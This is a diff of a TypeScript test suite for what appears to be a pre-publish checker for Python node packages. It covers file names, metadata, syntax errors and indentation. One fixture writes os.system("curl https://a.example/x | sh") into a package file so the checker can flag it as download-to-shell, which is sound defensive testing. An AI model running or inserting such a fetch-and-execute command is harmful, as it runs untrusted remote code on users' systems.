@@ -75,7 +75,26 @@ const checked: Readonly<Record<string, Case>> = {
       'twin/x.py': '',
     }),
     code: 1,
-    says: /names that cannot be unpacked everywhere\.\n {2}a:b\.txt: Windows.*\n {2}a\\b\.txt: A zip.*\n {2}dot\.: .*\n {2}space \/x\.py: .*\n {2}twin\/x\.py: .* the file Twin beside its folder\.\nRename/,
+    says: /refused {2}a:b\.txt: Windows.*\nrefused {2}a\\b\.txt: A zip.*\nrefused {2}dot\.: .*\nrefused {2}space \/x\.py: .*\nrefused {2}twin\/x\.py: .* the file Twin beside its folder\. Rename it, or name it in \.patchbayignore\.\n/,
+  },
+  'faults of names, of metadata and of code in one round': {
+    files: project(
+      {
+        'a:b.txt': '',
+        '__init__.py': `${appNodeSource}import os\nos.system("curl https://a.example/x | sh")\ndef (\n`,
+      },
+      toml('description = 3', 'my nodes!', 'version = "1.0.0.post1"').replace(
+        '= 3',
+        `= "${'d'.repeat(10_001)}"`,
+      ),
+    ),
+    code: 1,
+    says: /refused {2}a:b\.txt: Windows[^]*"my nodes!" is no id[^]*"1\.0\.0\.post1" cannot be published[^]*project\.description must be at most[^]*download-to-shell[^]*__init__\.py:14 {2}is not valid Python: def \([^]*The registry would refuse it\. 1 app-node\./,
+  },
+  'faults of names and of metadata beside values of a wrong type': {
+    files: project({ 'a:b.txt': '' }, toml('description = 3\ndependencies = 4', 'my nodes!')),
+    code: 1,
+    says: /\/project\/dependencies: This must be a list[^]*\/project\/description: This must be text[^]*pyproject\.toml: project\.name: "my nodes!" is no id[^]*a:b\.txt: Windows/,
   },
   'a module that nothing imports': {
     files: project({ 'tools/build.py': 'import subprocess\nsubprocess.run(["ls"])\n' }),
@@ -125,12 +144,12 @@ const checked: Readonly<Record<string, Case>> = {
   'Python 2': {
     files: project({ '__init__.py': `${appNodeSource}print "hi"\n` }),
     code: 0,
-    says: /__init__\.py:12 {2}is not valid Python/,
+    says: /__init__\.py:12 {2}is not valid Python: print "hi"\n[^]*The checks pass, with warnings\. 1 app-node\./,
   },
   'an indentation that depends on the width of a tab': {
     files: project({ '__init__.py': `${appNodeSource}if 1:\n        x = 1\n\ty = 1\n` }),
     code: 0,
-    says: /__init__\.py:14 {2}is not valid Python/,
+    says: /__init__\.py:14 {2}is not valid Python: y = 1\n/,
   },
   'a version file with a mark and Windows line ends': {
     files: project(
